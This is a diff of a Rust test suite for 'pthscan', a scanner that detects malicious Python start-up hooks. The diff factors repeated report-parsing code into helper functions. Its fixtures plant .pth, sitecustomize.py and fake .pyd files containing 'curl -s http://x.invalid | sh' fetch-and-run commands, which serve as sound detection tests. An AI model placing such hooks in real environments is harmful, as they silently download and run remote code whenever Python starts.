@@ -15,6 +15,22 @@ fn put(root: &Path, rel: &str, data: &[u8]) {
     std::fs::write(p, data).unwrap();
 }
 
+/// The JSON report of `pthscan --root ROOT`.
+fn scan_root(root: &Path) -> serde_json::Value {
+    let out = pthscan(&["--root", root.to_str().unwrap(), "--format", "json"]);
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+/// The finding of `rule` whose path ends with `tail`; the report when there is none.
+fn finding<'a>(json: &'a serde_json::Value, rule: &str, tail: &str) -> &'a serde_json::Value {
+    json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == rule && f["location"]["path"].as_str().unwrap().ends_with(tail))
+        .unwrap_or_else(|| panic!("{json:#}"))
+}
+
 fn row(rel: &str, data: &[u8]) -> String {
     let d = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
     format!("{rel},sha256={d},{}\n", data.len())
@@ -373,8 +389,7 @@ fn windows_and_macos_layouts_under_root_are_found() {
         &format!("{venv}/pyvenv.cfg"),
         b"home = C:\\Python312\nversion = 3.12.1\n",
     );
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let json = scan_root(r);
     let hooks: Vec<String> = json["findings"]
         .as_array()
         .unwrap()
@@ -448,8 +463,7 @@ fn pythonpath_set_on_the_host_puts_its_directory_on_the_path() {
         b"[Service]\nEnvironment=\"PYTHONPATH=/srv/unit\" LANG=C\nExecStart=/usr/local/bin/python3 -m app\n",
     );
     put(r, "srv/unit/sitecustomize.py", hook);
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let json = scan_root(r);
     for (file, set_in) in [
         (
             "opt/login/sitecustomize.py",
@@ -497,20 +511,8 @@ fn a_directory_start_up_code_adds_with_addsitedir_is_a_site_directory() {
         "var/cache/.lib/evil.pth",
         b"import os; os.system('curl -s http://x.invalid | sh')\n",
     );
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
-    let f = json["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|f| {
-            f["rule"] == "PTH001"
-                && f["location"]["path"]
-                    .as_str()
-                    .unwrap()
-                    .ends_with("var/cache/.lib/evil.pth")
-        })
-        .unwrap_or_else(|| panic!("{json:#}"));
+    let json = scan_root(r);
+    let f = finding(&json, "PTH001", "var/cache/.lib/evil.pth");
     assert_eq!(f["severity"], "high");
     assert!(
         f["notes"]
@@ -546,8 +548,7 @@ fn windows_installation_search_order_is_judged() {
         &format!("{win}/Lib/site-packages/_winboot.cp312-win_amd64.pyd"),
         b"MZ\0\0import os; os.system('curl -s http://x.invalid/p | sh')\0",
     );
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let json = scan_root(r);
     let found: Vec<(String, String, String)> = json["findings"]
         .as_array()
         .unwrap()
@@ -611,8 +612,7 @@ fn pythonwarnings_and_pythonoptimize_set_on_the_host_are_modelled() {
         &format!("{sp}/__pycache__/sitecustomize.cpython-312.opt-1.pyc"),
         &pyc,
     );
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let json = scan_root(r);
     let high = |tail: &str| {
         json["findings"].as_array().unwrap().iter().any(|f| {
             f["location"]["path"].as_str().unwrap().ends_with(tail)
@@ -650,8 +650,7 @@ fn a_standard_library_module_shadowed_through_pythonpath_is_judged() {
         b"# looks like the codec registry\n",
     );
     put(r, "opt/app/json/__init__.py", payload);
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let json = scan_root(r);
     let rule_at = |rule: Option<&str>, tail: &str| {
         json["findings"].as_array().unwrap().iter().any(|f| {
             rule.is_none_or(|r| f["rule"] == r)
@@ -706,20 +705,8 @@ fn a_pth_file_beside_the_executable_is_modelled() {
         "home/u/.cache/tools/sitecustomize.py",
         b"import os\nos.system('curl -s http://x.invalid | sh')\n",
     );
-    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
-    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
-    let f = json["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|f| {
-            f["rule"] == "CUS001"
-                && f["location"]["path"]
-                    .as_str()
-                    .unwrap()
-                    .ends_with(".cache/tools/sitecustomize.py")
-        })
-        .unwrap_or_else(|| panic!("{json:#}"));
+    let json = scan_root(r);
+    let f = finding(&json, "CUS001", ".cache/tools/sitecustomize.py");
     assert!(
         f["notes"]
             .to_string()
